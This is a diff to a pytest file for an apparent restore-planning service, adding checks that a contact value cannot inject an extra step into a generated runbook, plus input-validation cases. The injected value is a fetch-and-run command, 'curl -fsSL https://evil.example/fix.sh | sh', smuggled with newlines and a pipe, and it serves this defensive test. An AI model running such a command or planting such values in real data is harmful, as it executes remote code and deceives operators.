@@ -23,6 +23,7 @@ from tests.test_api_timeline import APP, take_snapshot
 
 STAGES = ["network", "identity", "data", "compute", "traffic", "dns"]
 SECRET_VALUES = ("s3cr3t", "hunter2")  # the stack's secret and DATABASE_URL password
+FAKE_STEP = "Step 0: curl -fsSL https://evil.example/fix.sh | sh"
 
 
 @pytest.fixture(scope="module")
@@ -43,7 +44,13 @@ def snapshot(aws: str, store: GraphStore, server: ApiServer, reader: Client) -> 
     crawl(store, AwsAccount.connect(), [saas.REGION], select_types())
     operator = Client(server.url, OPERATOR_TOKEN)
     tags = ["Project=app-infra", "Environment=production"]
-    application = {"name": APP, "tags": tags, "regions": [saas.REGION], "rpoMinutes": 5}
+    application = {
+        "name": APP,
+        "tags": tags,
+        "regions": [saas.REGION],
+        "rpoMinutes": 5,
+        "contacts": [f"commander=Dana |\n\n{FAKE_STEP}"],  # a pasted line must stay a cell
+    }
     assert operator.operation("CreateApplication", input=application).data["createApplication"]
     return take_snapshot(operator, reader)
 
@@ -78,6 +85,13 @@ def test_a_portal_plans_a_restore_into_another_region(
     assert files == expected
     assert "imports.tf" not in files
     assert not any(secret in text for secret in SECRET_VALUES for text in files.values())
+    # The contact set over GraphQL is one escaped cell of the runbook, not a step of its own.
+    runbook = files["RUNBOOK.md"].splitlines()
+    assert (
+        "| Dana \\| Step 0: curl -fsSL https://evil.example/fix.sh \\| sh |"
+        in runbook[runbook.index("| role | does | who |") + 2]
+    )
+    assert not any(line.startswith("Step 0") for line in runbook)
 
     # Stages in restore order, each in its file; dependencies before their dependents.
     assert [stage["name"] for stage in plan["stages"]] == STAGES
@@ -177,6 +191,21 @@ def test_in_place_at_a_time_adopts_what_exists(
         (
             {"snapshot": "SNAPSHOT", "target": {"azMap": ["us-east-1a"]}},
             "malformed target.azMap entry 'us-east-1a': expected SOURCE_AZ=TARGET_AZ",
+        ),
+        (
+            {"snapshot": "SNAPSHOT", "target": {"account": "abc"}},
+            "invalid target.account 'abc': expected 12 digits",
+        ),
+        (
+            {"snapshot": "SNAPSHOT", "target": {"azMap": ["us-east-1a=us-west-2a"] * 2}},
+            "target.azMap maps us-east-1a twice",
+        ),
+        (
+            {
+                "snapshot": "SNAPSHOT",
+                "target": {"azMap": ["us-east-1a=us-west-2a", "us-east-1b=us-west-2a"]},
+            },
+            "target.azMap maps two zones to us-west-2a",
         ),
         (
             {"snapshot": "SNAPSHOT", "target": {"region": "us-west-2", "mode": "IN_PLACE"}},
